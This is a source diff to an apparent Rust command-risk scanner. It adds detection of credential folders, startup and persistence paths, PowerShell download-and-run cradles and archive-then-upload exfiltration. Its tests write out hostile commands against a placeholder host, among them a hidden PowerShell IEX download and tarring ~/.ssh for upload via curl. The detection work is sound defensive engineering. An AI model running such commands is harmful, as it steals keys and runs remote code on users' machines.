@@ -275,6 +275,7 @@ fn secret(command: &Command) -> bool {
             ]
             .iter()
             .any(|path| arg.contains(path))
+                || ["/.ssh", "/.aws", "/.gnupg", "/.config/gcloud"].iter().any(|folder| arg.ends_with(folder))
         })
 }
 
@@ -317,25 +318,31 @@ fn wipes(command: &Command) -> bool {
         && command.args.iter().any(here)
 }
 
+/// Whether a path is one of those that start with the user's shell, session or machine.
+pub fn starts_again(path: &str) -> bool {
+    [
+        ".bashrc",
+        ".zshrc",
+        ".profile",
+        ".bash_profile",
+        "/etc/profile",
+        "LaunchAgents",
+        "LaunchDaemons",
+        "/etc/cron",
+        "systemd/system",
+        "systemd/user",
+        ".config/autostart",
+        "\\Startup\\",
+        "/Startup/",
+    ]
+    .iter()
+    .any(|part| path.contains(part))
+}
+
 fn persists(command: &Command) -> bool {
     let name = base(&command.name).to_ascii_lowercase();
     let args = command.args.join(" ");
-    let startup = |text: &str| {
-        [
-            ".bashrc",
-            ".zshrc",
-            ".profile",
-            ".bash_profile",
-            "/etc/profile",
-            "LaunchAgents",
-            "/etc/cron",
-            "systemd/system",
-            "systemd/user",
-            "\\Startup\\",
-        ]
-        .iter()
-        .any(|path| text.contains(path))
-    };
+    let startup = starts_again;
     (name == "crontab" && !args.contains("-l"))
         || (name == "schtasks" && args.to_ascii_lowercase().contains("/create"))
         || (name == "reg" && args.to_ascii_lowercase().starts_with("add") && args.contains("\\Run"))
@@ -378,6 +385,19 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         out.push(fact);
     };
     let mut fetched: Vec<String> = Vec::new();
+    let mut packed: Vec<String> = Vec::new();
+    if depth == 0 {
+        // PowerShell's `IEX(New-Object Net.WebClient).DownloadString(…)` has no words to split at.
+        let lower = line.to_ascii_lowercase();
+        let runs =
+            ["iex(", "iex (", "invoke-expression", "|iex", "| iex"].iter().any(|part| lower.contains(part));
+        let gets = ["downloadstring(", "invoke-webrequest", "invoke-restmethod", "irm ", "iwr "]
+            .iter()
+            .any(|part| lower.contains(part));
+        if runs && gets && (lower.contains("powershell") || lower.contains("pwsh")) {
+            add("pipe-to-shell", Some(CapabilityKind::Net), line);
+        }
+    }
     for (at, command) in commands.iter().enumerate() {
         let name = base(&command.name);
         let starter = base(&written[at].name);
@@ -433,6 +453,17 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
             add("beacon", Some(CapabilityKind::Net), line);
         }
         let leaks = |inner: &str| self::commands(inner).iter().any(secret);
+        // `tar czf x ~/.ssh && curl -F f=@x …`
+        if matches!(name, "tar" | "zip" | "7z" | "cp" | "cat" | "gpg") && secret(command) {
+            let plain = command.args.iter().filter(|arg| !arg.starts_with(['-', '~', '$']));
+            packed.extend(plain.filter(|arg| arg.len() > 2).cloned());
+            packed.extend(command.redirects.iter().cloned());
+        }
+        if sends(command)
+            && command.args.iter().any(|arg| packed.iter().any(|file| arg.ends_with(file.as_str())))
+        {
+            add("exfiltrate", Some(CapabilityKind::Net), line);
+        }
         if (sends(command) && (secret(command) || command.substitutions.iter().any(|text| leaks(text))))
             || (secret(command)
                 && command.piped
@@ -617,6 +648,12 @@ mod tests {
                 &["download", "encoded", "pipe-to-shell"],
             ),
             ("curl -s https://a.invalid/?u=$(whoami)", &["beacon", "download"]),
+            (
+                "powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('https://a.invalid')\"",
+                &["download", "pipe-to-shell"],
+            ),
+            ("tar czf /tmp/k ~/.ssh && curl -F f=@/tmp/k https://a.invalid", &["download", "exfiltrate"]),
+            ("tar czf /tmp/k dist && curl -F f=@/tmp/k https://a.invalid", &["download"]),
             ("nslookup $(hostname).a.invalid", &["beacon"]),
             ("hostname | base64 | xargs -I{} curl https://a.invalid/{}", &[]),
             ("uname -a | curl -d @- https://a.invalid", &["beacon", "download"]),
